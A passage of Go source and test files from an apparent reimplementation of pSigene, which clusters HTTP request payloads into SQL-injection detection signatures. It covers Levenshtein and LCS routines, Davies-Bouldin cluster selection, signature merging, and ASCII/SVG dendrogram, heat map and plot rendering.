	first := true
	maxK := opts.MaxClusters
	if maxK > n-1 {
		maxK = n - 1
	}
	for k := 2; k <= maxK; k++ {
		cl, err := dend.CutK(k)
		if err != nil {
			return nil, err
		}
		db, ok := daviesBouldin(cl, dist)
		if !ok {
			continue
		}
		if first || db < bestDB {
			bestK, bestDB, first = k, db, false
		}
	}
	clusters, err := dend.CutK(bestK)
	if err != nil {
		return nil, err
	}
	res := &TrainResult{FineGrained: len(clusters), DaviesBouldin: bestDB, ClusteredRequests: n}

	// Filter: drop singleton clusters and too-short signatures.
	var sigs []Signature
	for _, cl := range clusters {
		if len(cl) < 2 {
			continue
		}
		payloads := make([]string, len(cl))
		for i, idx := range cl {
			payloads[i] = views[idx].normPayload
		}
		tokens := tokenSubsequence(payloads)
		var avgLen float64
		for _, p := range payloads {
			avgLen += float64(len(p))
		}
		avgLen /= float64(len(payloads))
		if invariantLen(tokens) < opts.MinSignatureLen || len(tokens) < opts.MinTokens ||
			float64(invariantLen(tokens)) < opts.MinCoverage*avgLen {
			continue
		}
		sigs = append(sigs, Signature{Tokens: tokens})
	}
	res.AfterFiltering = len(sigs)

	// Merge nearly identical signatures, then re-apply the length filter:
	// merging takes the LCS of the merged pair, which can degrade a
	// signature below the too-short bar (?id=.* again).
	sigs = mergeSignatures(sigs, opts.MergeThreshold)
	kept := sigs[:0]
	for _, s := range sigs {
		if invariantLen(s.Tokens) >= opts.MinSignatureLen && len(s.Tokens) >= opts.MinTokens {
			kept = append(kept, s)
		}
	}
	sigs = kept
	for i := range sigs {
		re, err := regexp.Compile("(?s)" + sigs[i].Pattern())
		if err != nil {
			return nil, fmt.Errorf("compile signature %d: %w", i, err)
		}
		sigs[i].re = re
	}
	res.FinalSignatures = len(sigs)
	res.System = &System{sigs: sigs}
	return res, nil
}

// requestView caches the distance-relevant parts of a request.
type requestView struct {
	names, values string
	normPayload   string
}

func newRequestView(r httpx.Request) requestView {
	params := httpx.ParseParams(r.Payload())
	var names, values []string
	for _, p := range params {
		names = append(names, normalize.Normalize(p.Name))
		values = append(values, normalize.Normalize(p.Value))
	}
	return requestView{
		names:       strings.Join(names, "&"),
		values:      strings.Join(values, "&"),
		normPayload: normalize.Normalize(r.Payload()),
	}
}

// requestDistance is the weighted, normalized request distance: parameter
// values weighted 10, names weighted 8, method and path disregarded.
func requestDistance(a, b requestView, opts Options) float64 {
	dv := normalizedLevenshtein(a.values, b.values)
	dn := normalizedLevenshtein(a.names, b.names)
	return (opts.ValueWeight*dv + opts.NameWeight*dn) / (opts.ValueWeight + opts.NameWeight)
}

// normalizedLevenshtein is edit distance divided by the longer length,
// in [0, 1].
func normalizedLevenshtein(a, b string) float64 {
	if a == b {
		return 0
	}
	la, lb := len(a), len(b)
	if la == 0 || lb == 0 {
		return 1
	}
	prev := make([]int, lb+1)
	cur := make([]int, lb+1)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1
			if cur[j-1]+1 < m {
				m = cur[j-1] + 1
			}
			if prev[j-1]+cost < m {
				m = prev[j-1] + cost
			}
			cur[j] = m
		}
		prev, cur = cur, prev
	}
	maxLen := la
	if lb > maxLen {
		maxLen = lb
	}
	return float64(prev[lb]) / float64(maxLen)
}

// daviesBouldin computes the DB validity index over a clustering using
// medoids (string data has no mean): lower is better. ok is false when the
// index is undefined (all singletons or coincident medoids).
func daviesBouldin(clusters [][]int, dist *matrix.Condensed) (float64, bool) {
	k := len(clusters)
	if k < 2 {
		return 0, false
	}
	medoid := make([]int, k)
	scatter := make([]float64, k)
	for c, members := range clusters {
		bestIdx, bestSum := members[0], -1.0
		for _, i := range members {
			var sum float64
			for _, j := range members {
				if i != j {
					sum += dist.At(i, j)
				}
			}
			if bestSum < 0 || sum < bestSum {
				bestIdx, bestSum = i, sum
			}
		}
		medoid[c] = bestIdx
		if len(members) > 1 {
			scatter[c] = bestSum / float64(len(members)-1)
		}
	}
	var total float64
	for i := 0; i < k; i++ {
		worst := 0.0
		for j := 0; j < k; j++ {
			if i == j {
				continue
			}
			d := 0.0
			if medoid[i] != medoid[j] {
				d = dist.At(medoid[i], medoid[j])
			}
			if d == 0 {
				continue
			}
			r := (scatter[i] + scatter[j]) / d
			if r > worst {
				worst = r
			}
		}
		total += worst
	}
	return total / float64(k), true
}

// tokenSubsequence computes the ordered token subsequence common to all
// payloads: tokenize each, then fold with longest common subsequence.
func tokenSubsequence(payloads []string) []string {
	common := tokenize(payloads[0])
	for _, p := range payloads[1:] {
		common = lcsTokens(common, tokenize(p))
		if len(common) == 0 {
			return nil
		}
	}
	return common
}

// tokenize splits a payload into the token alphabet used for alignment:
// runs of word characters and individual special characters that matter
// for SQL (quotes, parentheses, operators).
func tokenize(s string) []string {
	var out []string
	i := 0
	for i < len(s) {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_':
			j := i + 1
			for j < len(s) && (s[j] >= 'a' && s[j] <= 'z' || s[j] >= 'A' && s[j] <= 'Z' || s[j] >= '0' && s[j] <= '9' || s[j] == '_') {
				j++
			}
			out = append(out, s[i:j])
			i = j
		case c == ' ':
			i++
		default:
			out = append(out, string(c))
			i++
		}
	}
	return out
}

// lcsTokens is the classic longest-common-subsequence over token slices.
func lcsTokens(a, b []string) []string {
	la, lb := len(a), len(b)
	if la == 0 || lb == 0 {
		return nil
	}
	dp := make([][]int, la+1)
	for i := range dp {
		dp[i] = make([]int, lb+1)
	}
	for i := la - 1; i >= 0; i-- {
		for j := lb - 1; j >= 0; j-- {
			if a[i] == b[j] {
				dp[i][j] = dp[i+1][j+1] + 1
			} else if dp[i+1][j] >= dp[i][j+1] {
				dp[i][j] = dp[i+1][j]
			} else {
				dp[i][j] = dp[i][j+1]
			}
		}
	}
	out := make([]string, 0, dp[0][0])
	for i, j := 0, 0; i < la && j < lb; {
		switch {
		case a[i] == b[j]:
			out = append(out, a[i])
			i++
			j++
		case dp[i+1][j] >= dp[i][j+1]:
			i++
		default:
			j++
		}
	}
	return out
}

// invariantLen is the total byte length of a token sequence.
func invariantLen(tokens []string) int {
	var n int
	for _, t := range tokens {
		n += len(t)
	}
	return n
}

// mergeSignatures repeatedly merges the closest pair of signatures whose
// distance is below threshold, replacing them with the LCS of their tokens.
func mergeSignatures(sigs []Signature, threshold float64) []Signature {
	for {
		bi, bj, bd := -1, -1, threshold
		for i := 0; i < len(sigs); i++ {
			for j := i + 1; j < len(sigs); j++ {
				d := signatureDistance(sigs[i], sigs[j])
				if d < bd {
					bi, bj, bd = i, j, d
				}
			}
		}
		if bi < 0 {
			break
		}
		merged := Signature{Tokens: lcsTokens(sigs[bi].Tokens, sigs[bj].Tokens)}
		out := make([]Signature, 0, len(sigs)-1)
		for k, s := range sigs {
			if k != bi && k != bj {
				out = append(out, s)
			}
		}
		if len(merged.Tokens) > 0 {
			out = append(out, merged)
		}
		sigs = out
	}
	// Stable order for reproducible reports.
	sort.Slice(sigs, func(i, j int) bool {
		return strings.Join(sigs[i].Tokens, " ") < strings.Join(sigs[j].Tokens, " ")
	})
	return sigs
}

// signatureDistance is the normalized edit distance between the rendered
// token strings.
func signatureDistance(a, b Signature) float64 {
	return normalizedLevenshtein(strings.Join(a.Tokens, " "), strings.Join(b.Tokens, " "))
}
