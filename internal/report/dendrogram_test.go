package report

import (
	"strings"
	"testing"

	"psigene/internal/cluster"
	"psigene/internal/matrix"
)

func TestRenderDendrogram(t *testing.T) {
	m, err := matrix.NewFromRows([][]float64{
		{0, 0}, {0.2, 0}, {0, 0.2}, // blob A
		{10, 10}, {10.2, 10}, // blob B
	})
	if err != nil {
		t.Fatal(err)
	}
	d, err := cluster.UPGMARows(m, nil)
	if err != nil {
		t.Fatal(err)
	}
	out := RenderDendrogram(d, 0, 40)
	if !strings.Contains(out, "dendrogram: 5 leaves") {
		t.Fatalf("header missing:\n%s", out)
	}
	if !strings.Contains(out, "+") || !strings.Contains(out, "-") {
		t.Fatalf("no join structure drawn:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 6 { // header + 5 leaves
		t.Fatalf("got %d lines:\n%s", len(lines), out)
	}
}

func TestRenderDendrogramCollapses(t *testing.T) {
	rows := make([][]float64, 30)
	for i := range rows {
		rows[i] = []float64{float64(i % 3), float64(i / 3)}
	}
	m, _ := matrix.NewFromRows(rows)
	d, err := cluster.UPGMARows(m, nil)
	if err != nil {
		t.Fatal(err)
	}
	out := RenderDendrogram(d, 8, 30)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 9 { // header + 8 collapsed groups
		t.Fatalf("expected 8 display groups, got %d lines:\n%s", len(lines)-1, out)
	}
	if !strings.Contains(out, "x") { // weight labels
		t.Fatalf("group weights missing:\n%s", out)
	}
}

func TestRenderDendrogramDegenerate(t *testing.T) {
	single := &cluster.Dendrogram{NLeaves: 1, Weights: []float64{1}}
	if !strings.Contains(RenderDendrogram(single, 0, 0), "leaf 0") {
		t.Fatal("single leaf rendering")
	}
	empty := &cluster.Dendrogram{}
	if !strings.Contains(RenderDendrogram(empty, 0, 0), "empty") {
		t.Fatal("empty rendering")
	}
}
