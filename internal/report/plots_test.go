package report

import (
	"strings"
	"testing"
)

func TestLinePlotSVG(t *testing.T) {
	series := []Series{
		{Name: "Signature 1", X: []float64{0, 0.01, 0.05}, Y: []float64{0, 0.8, 0.95}},
		{Name: "Signature 2", X: []float64{0, 0.02, 0.05}, Y: []float64{0, 0.5, 0.7}},
	}
	svg := LinePlotSVG("ROC Curves", "False Positive Rate", "True Positive Rate", series, 0.05, 1)
	if !strings.HasPrefix(svg, "<svg") || !strings.HasSuffix(svg, "</svg>") {
		t.Fatal("not an SVG document")
	}
	for _, want := range []string{"polyline", "Signature 1", "Signature 2", "ROC Curves", "False Positive Rate"} {
		if !strings.Contains(svg, want) {
			t.Fatalf("SVG missing %q", want)
		}
	}
	if strings.Count(svg, "<polyline") != 2 {
		t.Fatalf("want 2 polylines, got %d", strings.Count(svg, "<polyline"))
	}
}

func TestLinePlotSVGAutoScale(t *testing.T) {
	series := []Series{{Name: "s", X: []float64{0, 2}, Y: []float64{0, 4}}}
	svg := LinePlotSVG("t", "x", "y", series, 0, 0)
	if !strings.Contains(svg, "polyline") {
		t.Fatal("auto-scaled plot missing series")
	}
}

func TestLinePlotSVGClipsBeyondXMax(t *testing.T) {
	series := []Series{{Name: "s", X: []float64{0, 0.04, 0.9}, Y: []float64{0, 0.5, 1}}}
	svg := LinePlotSVG("t", "x", "y", series, 0.05, 1)
	// The x=0.9 point is dropped; two points remain in the polyline.
	start := strings.Index(svg, `points="`)
	end := strings.Index(svg[start+8:], `"`)
	pts := strings.Fields(svg[start+8 : start+8+end])
	if len(pts) != 2 {
		t.Fatalf("expected clipped polyline with 2 points, got %v", pts)
	}
}

func TestBarChartSVG(t *testing.T) {
	bars := []Bar{
		{Label: "1", Value: 0.9, Overlay: 0.35},
		{Label: "2", Value: 0.93, Overlay: 0.3},
	}
	svg := BarChartSVG("Cumulative TPR", bars)
	if !strings.HasPrefix(svg, "<svg") || !strings.HasSuffix(svg, "</svg>") {
		t.Fatal("not an SVG document")
	}
	if strings.Count(svg, "<rect") != 4 { // 2 bars x (value + overlay)
		t.Fatalf("want 4 rects, got %d", strings.Count(svg, "<rect"))
	}
	if !strings.Contains(svg, "Cumulative TPR") {
		t.Fatal("title missing")
	}
}

func TestBarChartSVGEmpty(t *testing.T) {
	svg := BarChartSVG("x", nil)
	if !strings.HasPrefix(svg, "<svg") {
		t.Fatal("empty chart must still be an SVG")
	}
}

func TestXMLEscape(t *testing.T) {
	if got := xmlEscape(`a<b>&"c"`); got != "a&lt;b&gt;&amp;&quot;c&quot;" {
		t.Fatalf("xmlEscape=%q", got)
	}
}
