package report

import (
	"fmt"
	"sort"
	"strings"

	"psigene/internal/cluster"
)

// RenderDendrogram draws a dendrogram as ASCII art, leaves down the left
// edge and merges joining rightward at depths proportional to their heights
// — the textual counterpart of the trees flanking Figure 2's heat map.
// maxLeaves caps the drawing by collapsing the smallest subtrees first
// (0 means 40); width is the merge-axis budget in characters (0 means 48).
func RenderDendrogram(d *cluster.Dendrogram, maxLeaves, width int) string {
	if maxLeaves <= 0 {
		maxLeaves = 40
	}
	if width <= 0 {
		width = 48
	}
	if d.NLeaves == 0 {
		return "(empty dendrogram)\n"
	}
	if d.NLeaves == 1 {
		return "leaf 0\n"
	}

	// Collapse to at most maxLeaves display groups: cut the tree at the
	// smallest K <= maxLeaves, then treat each cluster as one display leaf.
	k := d.NLeaves
	if k > maxLeaves {
		k = maxLeaves
	}
	groups, err := d.CutK(k)
	if err != nil {
		return fmt.Sprintf("(dendrogram render failed: %v)\n", err)
	}

	// Order groups by heat-map position and build the merge structure over
	// groups by replaying the linkage above the cut.
	pos := make(map[int]int, d.NLeaves)
	for p, leaf := range d.LeafOrder() {
		pos[leaf] = p
	}
	sort.Slice(groups, func(i, j int) bool { return pos[groups[i][0]] < pos[groups[j][0]] })

	groupOf := make(map[int]int, d.NLeaves) // leaf -> display group
	for gi, g := range groups {
		for _, leaf := range g {
			groupOf[leaf] = gi
		}
	}

	// Replay merges; a merge whose two sides map to different live display
	// groups becomes a drawn join.
	type join struct {
		a, b   int // display-group representatives
		height float64
	}
	var joins []join
	// Track which display group each linkage id currently belongs to.
	idGroup := make(map[int]int, 2*d.NLeaves)
	for leaf, g := range groupOf {
		idGroup[leaf] = g
	}
	rep := make([]int, len(groups)) // union-find over display groups
	for i := range rep {
		rep[i] = i
	}
	var find func(x int) int
	find = func(x int) int {
		if rep[x] != x {
			rep[x] = find(rep[x])
		}
		return rep[x]
	}
	maxHeight := d.Merges[len(d.Merges)-1].Height
	for mi, m := range d.Merges {
		ga, okA := idGroup[m.A]
		gb, okB := idGroup[m.B]
		id := d.NLeaves + mi
		switch {
		case okA && okB:
			ra, rb := find(ga), find(gb)
			if ra != rb {
				joins = append(joins, join{a: ra, b: rb, height: m.Height})
				rep[rb] = ra
			}
			idGroup[id] = find(ra)
		case okA:
			idGroup[id] = ga
		case okB:
			idGroup[id] = gb
		}
	}

	// Draw: one row per display group; joins as brackets at scaled depth.
	depth := func(h float64) int {
		if maxHeight <= 0 {
			return 1
		}
		dd := int(h / maxHeight * float64(width-1))
		if dd < 1 {
			dd = 1
		}
		return dd
	}
	rows := make([][]byte, len(groups))
	labels := make([]string, len(groups))
	for i, g := range groups {
		w := d.WeightOf(g)
		labels[i] = fmt.Sprintf("%4.0f x ", w)
		rows[i] = []byte(strings.Repeat(" ", width))
	}
	// rowOf tracks the representative row of each display group as it merges.
	rowOf := make([]int, len(groups))
	for i := range rowOf {
		rowOf[i] = i
	}
	for i := range rep {
		rep[i] = i // reset union-find for drawing
	}
	for _, j := range joins {
		ra, rb := find(j.a), find(j.b)
		r1, r2 := rowOf[ra], rowOf[rb]
		if r1 > r2 {
			r1, r2 = r2, r1
		}
		x := depth(j.height)
		for r := r1; r <= r2; r++ {
			if rows[r][x-1] == ' ' {
				rows[r][x-1] = '|'
			}
		}
		for _, r := range []int{r1, r2} {
			for c := 0; c < x-1; c++ {
				if rows[r][c] == ' ' {
					rows[r][c] = '-'
				}
			}
			rows[r][x-1] = '+'
		}
		rep[rb] = ra
		rowOf[ra] = (r1 + r2) / 2
	}

	var b strings.Builder
	fmt.Fprintf(&b, "dendrogram: %d leaves shown as %d groups (height scale: %.2f per column)\n",
		d.NLeaves, len(groups), maxHeight/float64(width-1))
	for i := range groups {
		b.WriteString(labels[i])
		b.Write(rows[i])
		b.WriteByte('\n')
	}
	return b.String()
}
