package report

import (
	"math/rand"
	"strings"
	"testing"

	"psigene/internal/cluster"
	"psigene/internal/matrix"
)

func TestTableRender(t *testing.T) {
	tbl := &Table{Title: "Accuracy", Headers: []string{"Rules", "TPR", "FPR"}}
	tbl.AddRow("pSigene", "90.52%", "0.037%")
	tbl.AddRow("Bro", "76.33%", "0.0000%")
	out := tbl.String()
	if !strings.Contains(out, "Accuracy") || !strings.Contains(out, "pSigene") {
		t.Fatalf("render missing content:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 6 { // title, rule, headers, separator, 2 rows
		t.Fatalf("got %d lines:\n%s", len(lines), out)
	}
	// Columns align: header and rows share the pipe positions.
	hdr := lines[2]
	for _, ln := range lines[4:] {
		if strings.Index(ln, "|") != strings.Index(hdr, "|") {
			t.Fatalf("misaligned columns:\n%s", out)
		}
	}
}

func TestPctAndF(t *testing.T) {
	if got := Pct(0.9052, 2); got != "90.52%" {
		t.Fatalf("Pct=%q", got)
	}
	if got := F(3.14159, 3); got != "3.142" {
		t.Fatalf("F=%q", got)
	}
}

func TestWriteCSV(t *testing.T) {
	var b strings.Builder
	err := WriteCSV(&b, []string{"fpr", "tpr"}, [][]float64{{0, 0}, {0.01, 0.8}, {1, 1}})
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	if len(lines) != 4 || lines[0] != "fpr,tpr" {
		t.Fatalf("csv:\n%s", b.String())
	}
	if lines[2] != "0.01,0.8" {
		t.Fatalf("row 2 = %q", lines[2])
	}
}

func plantedHeatmap(t *testing.T) (*matrix.Dense, *cluster.Result) {
	t.Helper()
	rng := rand.New(rand.NewSource(1))
	var rows [][]float64
	for i := 0; i < 30; i++ { // group A: features 0-2
		r := make([]float64, 10)
		for j := 0; j < 3; j++ {
			r[j] = float64(1 + rng.Intn(3))
		}
		rows = append(rows, r)
	}
	for i := 0; i < 20; i++ { // group B: features 6-9
		r := make([]float64, 10)
		for j := 6; j < 10; j++ {
			r[j] = float64(1 + rng.Intn(3))
		}
		rows = append(rows, r)
	}
	m, err := matrix.NewFromRows(rows)
	if err != nil {
		t.Fatal(err)
	}
	res, err := cluster.Run(m, nil, cluster.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return m, res
}

func TestHeatmapASCII(t *testing.T) {
	m, res := plantedHeatmap(t)
	h, err := NewHeatmap(m, res)
	if err != nil {
		t.Fatal(err)
	}
	out := h.ASCII(20, 10)
	if !strings.Contains(out, "heat map") {
		t.Fatalf("missing header:\n%s", out)
	}
	if !strings.Contains(out, "<1>") || !strings.Contains(out, "<2>") {
		t.Fatalf("bicluster annotations missing:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 21 {
		t.Fatalf("got %d lines, want 21", len(lines))
	}
}

func TestHeatmapSVG(t *testing.T) {
	m, res := plantedHeatmap(t)
	h, err := NewHeatmap(m, res)
	if err != nil {
		t.Fatal(err)
	}
	svg := h.SVG(10, 10, 4)
	if !strings.HasPrefix(svg, "<svg") || !strings.HasSuffix(svg, "</svg>") {
		t.Fatal("not an SVG document")
	}
	if !strings.Contains(svg, "<rect") || !strings.Contains(svg, "bicluster") {
		t.Fatal("SVG missing cells or labels")
	}
}

func TestHeatmapDimensionErrors(t *testing.T) {
	m, res := plantedHeatmap(t)
	bad := matrix.MustNew(m.Rows()+1, m.Cols())
	if _, err := NewHeatmap(bad, res); err == nil {
		t.Fatal("row mismatch: want error")
	}
	bad2 := matrix.MustNew(m.Rows(), m.Cols()+1)
	if _, err := NewHeatmap(bad2, res); err == nil {
		t.Fatal("col mismatch: want error")
	}
}

func TestSVGColorRamp(t *testing.T) {
	if svgColor(-2) != "#00ff00" {
		t.Fatalf("low end: %s", svgColor(-2))
	}
	if svgColor(0) != "#000000" {
		t.Fatalf("center: %s", svgColor(0))
	}
	if svgColor(2) != "#ff0000" {
		t.Fatalf("high end: %s", svgColor(2))
	}
}

func TestRampChar(t *testing.T) {
	if rampChar(-5) != ' ' {
		t.Fatal("clamped low must be blank")
	}
	if rampChar(5) != '@' {
		t.Fatal("clamped high must be densest")
	}
}
