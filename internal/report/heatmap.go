package report

import (
	"fmt"
	"strings"

	"psigene/internal/cluster"
	"psigene/internal/matrix"
)

// Heatmap is the Figure 2 artifact: the sample×feature matrix standardized
// per column and reordered by the row and column dendrograms, with the
// selected biclusters annotated.
type Heatmap struct {
	std      *matrix.Dense
	rowOrder []int
	colOrder []int
	result   *cluster.Result
}

// NewHeatmap builds the heat map model from the raw (unstandardized) count
// matrix — dense or CSR — and its biclustering result. Rendering touches
// every cell anyway, so this is the one consumer that densifies on purpose.
func NewHeatmap(m matrix.RowMatrix, res *cluster.Result) (*Heatmap, error) {
	if m.Rows() != res.RowDendrogram.NLeaves {
		return nil, fmt.Errorf("report: matrix has %d rows, dendrogram %d leaves", m.Rows(), res.RowDendrogram.NLeaves)
	}
	if m.Cols() != res.ColDendrogram.NLeaves {
		return nil, fmt.Errorf("report: matrix has %d cols, dendrogram %d leaves", m.Cols(), res.ColDendrogram.NLeaves)
	}
	std, _ := matrix.ToDense(m).Standardize()
	return &Heatmap{
		std:      std,
		rowOrder: res.RowDendrogram.LeafOrder(),
		colOrder: res.ColDendrogram.LeafOrder(),
		result:   res,
	}, nil
}

// biclusterOfLeaf maps each row leaf to its bicluster ID (0 = unclustered).
func (h *Heatmap) biclusterOfLeaf() map[int]int {
	out := make(map[int]int, len(h.rowOrder))
	for _, b := range h.result.Biclusters {
		for _, l := range b.RowLeaves {
			out[l] = b.ID
		}
	}
	return out
}

// asciiRamp maps standardized values onto characters: low (green in the
// paper) to high (red).
const asciiRamp = " .:-=+*#%@"

// ASCII renders the heat map as character art, downsampling to at most
// maxRows×maxCols cells, with bicluster IDs annotated per row band.
func (h *Heatmap) ASCII(maxRows, maxCols int) string {
	rows, cols := len(h.rowOrder), len(h.colOrder)
	if maxRows <= 0 || maxRows > rows {
		maxRows = rows
	}
	if maxCols <= 0 || maxCols > cols {
		maxCols = cols
	}
	leafBic := h.biclusterOfLeaf()
	var b strings.Builder
	fmt.Fprintf(&b, "heat map: %d samples x %d features (showing %dx%d)\n", rows, cols, maxRows, maxCols)
	for r := 0; r < maxRows; r++ {
		// Representative source row for this display row.
		src := r * rows / maxRows
		leaf := h.rowOrder[src]
		for c := 0; c < maxCols; c++ {
			// Average the block of source cells for this display cell.
			c0, c1 := c*cols/maxCols, (c+1)*cols/maxCols
			if c1 == c0 {
				c1 = c0 + 1
			}
			var sum float64
			for j := c0; j < c1; j++ {
				sum += h.std.At(leaf, h.colOrder[j])
			}
			b.WriteByte(rampChar(sum / float64(c1-c0)))
		}
		if id := leafBic[leaf]; id != 0 {
			mark := ""
			for _, bc := range h.result.Biclusters {
				if bc.ID == id && bc.BlackHole {
					mark = " (black hole)"
				}
			}
			fmt.Fprintf(&b, "  <%d>%s", id, mark)
		}
		b.WriteByte('\n')
	}
	return b.String()
}

func rampChar(z float64) byte {
	// Clamp z to [-2, 2] and scale onto the ramp.
	if z < -2 {
		z = -2
	}
	if z > 2 {
		z = 2
	}
	idx := int((z + 2) / 4 * float64(len(asciiRamp)-1))
	return asciiRamp[idx]
}

// SVG renders the heat map with the paper's green-black-red colormap, one
// rect per (downsampled) cell, with bicluster bands outlined.
func (h *Heatmap) SVG(maxRows, maxCols, cell int) string {
	rows, cols := len(h.rowOrder), len(h.colOrder)
	if maxRows <= 0 || maxRows > rows {
		maxRows = rows
	}
	if maxCols <= 0 || maxCols > cols {
		maxCols = cols
	}
	if cell <= 0 {
		cell = 4
	}
	w, hgt := maxCols*cell, maxRows*cell
	var b strings.Builder
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d">`, w+80, hgt)
	b.WriteByte('\n')
	for r := 0; r < maxRows; r++ {
		src := r * rows / maxRows
		leaf := h.rowOrder[src]
		for c := 0; c < maxCols; c++ {
			c0, c1 := c*cols/maxCols, (c+1)*cols/maxCols
			if c1 == c0 {
				c1 = c0 + 1
			}
			var sum float64
			for j := c0; j < c1; j++ {
				sum += h.std.At(leaf, h.colOrder[j])
			}
			fmt.Fprintf(&b, `<rect x="%d" y="%d" width="%d" height="%d" fill="%s"/>`,
				c*cell, r*cell, cell, cell, svgColor(sum/float64(c1-c0)))
		}
		b.WriteByte('\n')
	}
	// Bicluster band labels.
	leafBic := h.biclusterOfLeaf()
	prev := -1
	for r := 0; r < maxRows; r++ {
		src := r * rows / maxRows
		id := leafBic[h.rowOrder[src]]
		if id != 0 && id != prev {
			fmt.Fprintf(&b, `<text x="%d" y="%d" font-size="10" fill="black">bicluster %d</text>`,
				maxCols*cell+4, r*cell+10, id)
			b.WriteByte('\n')
		}
		prev = id
	}
	b.WriteString("</svg>")
	return b.String()
}

// svgColor maps a z-score to the green→black→red ramp.
func svgColor(z float64) string {
	if z < -2 {
		z = -2
	}
	if z > 2 {
		z = 2
	}
	if z < 0 {
		g := int(-z / 2 * 255)
		return fmt.Sprintf("#00%02x00", g)
	}
	r := int(z / 2 * 255)
	return fmt.Sprintf("#%02x0000", r)
}
