// Package report renders the pipeline's outputs in the forms the paper
// presents them: plain-text tables (Tables I–VI), CSV series for the curve
// figures (ROC, cumulative TPR), and the Figure 2 heat map with dendrogram
// ordering as ASCII art or SVG.
package report

import (
	"fmt"
	"io"
	"strconv"
	"strings"
)

// Table is a plain-text table.
type Table struct {
	Title   string
	Headers []string
	Rows    [][]string
}

// AddRow appends a row.
func (t *Table) AddRow(cells ...string) {
	t.Rows = append(t.Rows, cells)
}

// Render writes the table with aligned columns.
func (t *Table) Render(w io.Writer) {
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var total int
	for _, wd := range widths {
		total += wd + 3
	}
	if t.Title != "" {
		fmt.Fprintln(w, t.Title)
		fmt.Fprintln(w, strings.Repeat("=", min(total, 100)))
	}
	writeRow := func(cells []string) {
		var b strings.Builder
		for i, c := range cells {
			if i < len(widths) {
				b.WriteString(pad(c, widths[i]))
			} else {
				b.WriteString(c)
			}
			if i != len(cells)-1 {
				b.WriteString(" | ")
			}
		}
		fmt.Fprintln(w, strings.TrimRight(b.String(), " "))
	}
	writeRow(t.Headers)
	sep := make([]string, len(t.Headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
}

// String renders to a string.
func (t *Table) String() string {
	var b strings.Builder
	t.Render(&b)
	return b.String()
}

func pad(s string, w int) string {
	if len(s) >= w {
		return s
	}
	return s + strings.Repeat(" ", w-len(s))
}

// Pct formats a fraction as a percentage with the given decimals.
func Pct(frac float64, decimals int) string {
	return strconv.FormatFloat(frac*100, 'f', decimals, 64) + "%"
}

// F formats a float with the given decimals.
func F(v float64, decimals int) string {
	return strconv.FormatFloat(v, 'f', decimals, 64)
}

// WriteCSV writes a simple CSV (no quoting needs beyond commas in headers).
func WriteCSV(w io.Writer, headers []string, rows [][]float64) error {
	if _, err := fmt.Fprintln(w, strings.Join(headers, ",")); err != nil {
		return err
	}
	for _, row := range rows {
		cells := make([]string, len(row))
		for i, v := range row {
			cells[i] = strconv.FormatFloat(v, 'g', 8, 64)
		}
		if _, err := fmt.Fprintln(w, strings.Join(cells, ",")); err != nil {
			return err
		}
	}
	return nil
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
