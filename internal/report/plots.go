package report

import (
	"fmt"
	"strings"
)

// Series is one named line of an XY plot.
type Series struct {
	Name string
	X, Y []float64
}

// plotPalette cycles through distinguishable stroke colors.
var plotPalette = []string{
	"#1f77b4", "#d62728", "#2ca02c", "#9467bd", "#ff7f0e",
	"#8c564b", "#e377c2", "#7f7f7f", "#bcbd22", "#17becf",
}

// LinePlotSVG renders series as an SVG line plot with axes and a legend —
// used for Figure 3's ROC curves. xMax/yMax clip the axes (the paper plots
// FPR only to 0.05); zero means auto.
func LinePlotSVG(title, xLabel, yLabel string, series []Series, xMax, yMax float64) string {
	const (
		w, h           = 560, 400
		ml, mr, mt, mb = 60, 150, 30, 45
		plotW, plotH   = w - ml - mr, h - mt - mb
	)
	if xMax <= 0 {
		for _, s := range series {
			for _, x := range s.X {
				if x > xMax {
					xMax = x
				}
			}
		}
	}
	if yMax <= 0 {
		for _, s := range series {
			for _, y := range s.Y {
				if y > yMax {
					yMax = y
				}
			}
		}
	}
	if xMax <= 0 {
		xMax = 1
	}
	if yMax <= 0 {
		yMax = 1
	}
	px := func(x float64) float64 { return ml + x/xMax*float64(plotW) }
	py := func(y float64) float64 { return mt + (1-y/yMax)*float64(plotH) }

	var b strings.Builder
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d" font-family="sans-serif">`, w, h)
	b.WriteByte('\n')
	fmt.Fprintf(&b, `<text x="%d" y="18" font-size="14" text-anchor="middle">%s</text>`, ml+plotW/2, xmlEscape(title))
	// Axes.
	fmt.Fprintf(&b, `<line x1="%d" y1="%d" x2="%d" y2="%d" stroke="black"/>`, ml, mt+plotH, ml+plotW, mt+plotH)
	fmt.Fprintf(&b, `<line x1="%d" y1="%d" x2="%d" y2="%d" stroke="black"/>`, ml, mt, ml, mt+plotH)
	fmt.Fprintf(&b, `<text x="%d" y="%d" font-size="11" text-anchor="middle">%s</text>`, ml+plotW/2, h-8, xmlEscape(xLabel))
	fmt.Fprintf(&b, `<text x="14" y="%d" font-size="11" text-anchor="middle" transform="rotate(-90 14 %d)">%s</text>`, mt+plotH/2, mt+plotH/2, xmlEscape(yLabel))
	// Ticks.
	for i := 0; i <= 5; i++ {
		fx := xMax * float64(i) / 5
		fy := yMax * float64(i) / 5
